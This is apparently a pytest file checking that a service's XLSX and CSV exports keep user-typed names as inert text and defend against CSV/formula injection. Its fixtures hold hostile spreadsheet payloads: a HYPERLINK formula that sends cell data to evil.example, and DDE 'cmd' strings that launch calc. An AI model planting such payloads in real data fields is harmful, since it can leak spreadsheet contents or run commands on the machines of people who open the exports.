"""No export turns typed text into a live formula (issue 9 part 11): names, site and course
names and indicator names that start with =, +, -, @, a tab or a carriage return are kept
as text, in every XLSX and CSV the service produces."""

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from tests import factories
from tests.indicators.conftest import complete

SITE = '=HYPERLINK("http://evil.example/?"&A1,"Ver")'
COURSE = "+cmd|' /C calc'!A0"
FIRST = "@SUM(1+1)*cmd|' /C calc'!A0"
LAST = "-2+3+cmd|' /C calc'!A0"
AREA = "\t=1+1"
INDICATOR = "\r=1+1 Personas capacitadas"
#: What spreadsheets read as the start of a formula (or hide one behind).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(db):
    ind = factories.indicator(code="PDM-X", name=INDICATOR, product_code="777")
    course = factories.course(code="CURSO-X", name=COURSE, product_code="777")
    site = factories.site(code="SEDE-X", name=SITE)
    for i in range(6):  # enough people that the open data shows the site's cell
        person = factories.person(first_names=FIRST, last_names=LAST, area=AREA)
        complete(person, course, date(2021, 3, 1 + i), site=site)
    return ind


def _assert_inert(values, where):
    texts = [v for v in values if isinstance(v, str)]
    assert texts
    for value in texts:
        assert not value.startswith(FORMULA_STARTS), (where, value)


def _xlsx_values(data: bytes):
    wb = load_workbook(io.BytesIO(data))
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is not None:
                    assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                    values.append(cell.value)
    return values


def _csv_values(text: str):
    # The staff CSV is for Excel in Spanish (byte order mark, «;»); open data is RFC 4180.
    delimiter = ";" if text.startswith("\ufeff") else ","
    rows = csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=delimiter)
    return [value for row in rows for value in row]


@pytest.mark.parametrize("role", ["admin", "analyst"])
def test_staff_xlsx_keeps_typed_text_as_text(client, login, hostile, role):
    login(factories.user(role=role))
    response = client.get("/indicadores/exportar.xlsx")
    assert response.status_code == 200
    values = _xlsx_values(response.data)
    _assert_inert(values, "xlsx")
    # Kept as text: the whole value is there, behind the apostrophe.
    assert "'" + SITE in values and "'" + COURSE in values
    if role == "admin":
        for typed in (FIRST, LAST, AREA):
            assert "'" + typed in values


@pytest.mark.parametrize("fmt", ["excel", "rfc4180"])
def test_staff_csv_keeps_typed_text_as_text(client, login, analyst, hostile, fmt):
    login(analyst)
    response = client.get(f"/indicadores/exportar.csv?formato={fmt}")
    values = _csv_values(response.get_data(as_text=True))
    _assert_inert(values, "csv")
    for typed in (SITE, COURSE, AREA, INDICATOR):
        assert "'" + typed in values


@pytest.mark.parametrize("fmt", ["excel", "rfc4180"])
def test_open_data_csv_keeps_typed_text_as_text(client, hostile, fmt):
    response = client.get(f"/datos-abiertos/indicadores.csv?formato={fmt}")
    values = _csv_values(response.get_data(as_text=True))
    _assert_inert(values, "open data")
    for typed in (SITE, COURSE, INDICATOR):
        assert "'" + typed in values
    dictionary = client.get("/datos-abiertos/diccionario.csv").get_data(as_text=True)
    _assert_inert(_csv_values(dictionary), "dictionary")
